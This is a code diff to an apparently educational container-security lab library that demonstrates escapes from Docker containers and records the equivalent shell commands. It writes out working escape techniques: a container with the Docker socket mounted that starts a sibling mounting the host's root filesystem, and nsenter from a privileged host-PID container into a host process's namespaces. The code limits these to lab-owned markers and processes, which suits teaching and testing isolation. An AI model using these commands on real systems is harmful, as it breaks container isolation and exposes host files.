@@ -11,7 +11,7 @@ from dataclasses import dataclass
 from pathlib import Path
 from typing import TYPE_CHECKING, Any, Iterator
 
-from .containers import Container
+from .containers import Container, exec_command, run_command
 from .core.render import Renderable, Stack, callout, table
 from .core.capabilities import CAP_NAMES
 from .core.errors import LabkitError
@@ -83,6 +83,7 @@ def privileged(lab: "Lab", image: str = "labkit/busybox", command: Any = ("sleep
 @dataclass
 class ContainerPowers(Renderable):
     rows: list[tuple[str, str, str]]
+    equivalent: str = ""  # both containers, the probes, the removal
 
     def _render(self):
         return table(["what the process has", "default container", "privileged container"], self.rows,
@@ -106,14 +107,17 @@ def powers(lab: "Lab", *, acknowledge_risk: bool = False) -> ContainerPowers:
         "may mount a filesystem": "mkdir -p /m && mount -t tmpfs none /m 2>/dev/null && echo yes || echo no",
         "may write /proc/sys": "echo 1 > /proc/sys/vm/drop_caches 2>/dev/null && echo yes || echo no",
     }
-    with lab.start("labkit/busybox", ["sleep", "600"]) as plain, \
-            privileged(lab, acknowledge_risk=True) as priv:
+    with lab.start("labkit/busybox", ["sleep", "600"], name="powers-default") as plain, \
+            privileged(lab, name="powers-privileged", acknowledge_risk=True) as priv:
         rows = [("capabilities", f"{len(capabilities_of(plain))} of {len(CAP_NAMES)}",
                  f"{len(capabilities_of(priv))} of {len(CAP_NAMES)}")]
+        ran = [plain.equivalent, priv.equivalent, exec_command(priv.name, ["cat", "/proc/1/status"])]
         for what, probe in probes.items():
             rows.append((what, plain.exec(["sh", "-c", probe]).stdout.strip() or "none",
-                         priv.exec(["sh", "-c", probe]).stdout.strip() or "none"))
-    return ContainerPowers(rows)
+                         (done := priv.exec(["sh", "-c", probe])).stdout.strip() or "none"))
+            ran.append(done.equivalent)
+        ran.append(f"docker rm -f {plain.name} {priv.name}  # each exec ran in {plain.name} too")
+    return ContainerPowers(rows, " && ".join(ran))
 
 
 @dataclass
@@ -142,6 +146,7 @@ class Escape(Renderable):
     command: str
     output: str
     proved: bool
+    equivalent: str = ""  # the container(s) started, what ran inside, the removal
 
     def _render(self):
         kind, title = ("error", "Host reached") if self.proved else ("success", "Host not reached")
@@ -164,15 +169,18 @@ def socket_escape(lab: "Lab", marker: HostMarker, socket_path: str = DOCKER_SOCK
     docker = " ".join(host_binary_command("docker", prefix="/t"))
     labels = " ".join(f"--label {k}={v}" for k, v in lab.labels.items())  # the sibling is the lab's too
     inner = f"{docker} run --rm {labels} -v /:/host labkit/busybox cat /host{marker.path}"
-    with lab.start("labkit/busybox", ["sleep", "600"], volumes={
+    with lab.start("labkit/busybox", ["sleep", "600"], name="wormhole", volumes={
             socket_path: {"bind": "/var/run/docker.sock", "mode": "rw"}, str(tools / "t"): {"bind": "/t", "mode": "ro"}},
             environment={"DOCKER_API_VERSION": lab.client.version()["ApiVersion"]}) as wormhole:
         result = wormhole.exec(["sh", "-c", inner + " 2>&1"])
+    shown = inner.replace(labels, "").replace(docker, "docker").replace("  ", " ")  # session labels left out
+    ran = [wormhole.equivalent, exec_command(wormhole.name, ["sh", "-c", shown + " 2>&1"]), f"docker rm -f {wormhole.name}"]
     out = result.stdout.strip()
     return Escape("A container with the docker socket asked the engine for a sibling that mounts the host's / "
                   "and read the lab's owner-only file." if marker.content in out else
                   "The engine behind this socket could not reach the file.",
-                  inner.replace(labels, "--label ...").replace(docker, "docker"), out[-300:], marker.content in out)
+                  inner.replace(labels, "--label ...").replace(docker, "docker"), out[-300:], marker.content in out,
+                  " && ".join(ran))
 
 
 def host_process(lab: "Lab") -> int:
@@ -192,16 +200,24 @@ def nsenter_escape(lab: "Lab", pid: int, marker: HostMarker, *, acknowledge_risk
     if not lab.session.tracks("pid", str(pid)):  # only processes this session started itself
         raise LabkitError(f"Process {pid} was not started by this lab.", "Pass the pid from host_process(lab).")
     command = f"nsenter -t {pid} -m -u -i -n -p cat {marker.path}"
+    # what privileged() runs: --privileged, or the closest this engine grants (privilege_mode)
+    attempted = run_command("run -d", "labkit/busybox", ["sleep", "600"],
+                            **{**privilege_mode(lab).options, "pid_mode": "host", "name": lab.name("nsenter")})
     try:
-        with privileged(lab, pid_mode="host", acknowledge_risk=True) as c:
-            seen = c.exec(["sh", "-c", f"cat /proc/{pid}/cmdline 2>/dev/null | tr '\\0' ' '"]).stdout.strip()
+        with privileged(lab, pid_mode="host", name="nsenter", acknowledge_risk=True) as c:
+            look = c.exec(["sh", "-c", f"cat /proc/{pid}/cmdline 2>/dev/null | tr '\\0' ' '"])
+            seen = look.stdout.strip()
             if not seen.startswith("sleep 3600"):
                 return Escape(f"This engine's PID namespace does not contain process {pid} (the engine runs in a "
-                              "VM or on another machine): nothing to enter.", command, seen, False)
-            out = c.exec(["sh", "-c", command + " 2>&1"]).stdout.strip()
+                              "VM or on another machine): nothing to enter.", command, seen, False,
+                              " && ".join([c.equivalent, look.equivalent, f"docker rm -f {c.name}"]))
+            entered = c.exec(["sh", "-c", command + " 2>&1"])
+            ran = [c.equivalent, look.equivalent, entered.equivalent, f"docker rm -f {c.name}"]
+            out = entered.stdout.strip()
     except LabkitError as exc:  # e.g. a rootless engine: the kernel refuses to mount the host's /proc
         return Escape("The engine could not even start a privileged container in the host's PID namespace.",
-                      "docker run --privileged --pid=host ...", exc.message.split(": ", 1)[-1][-300:], False)
+                      attempted, exc.message.split(": ", 1)[-1][-300:], False, attempted)
     return Escape("The container entered the mount, UTS, IPC, network and PID namespaces of a host process "
                   "and read a file of the host." if marker.content in out else "nsenter could not enter the "
-                  "host process's namespaces.", command.replace(str(pid), "PID"), out[-300:], marker.content in out)
+                  "host process's namespaces.", command.replace(str(pid), "PID"), out[-300:], marker.content in out,
+                  " && ".join(ran))
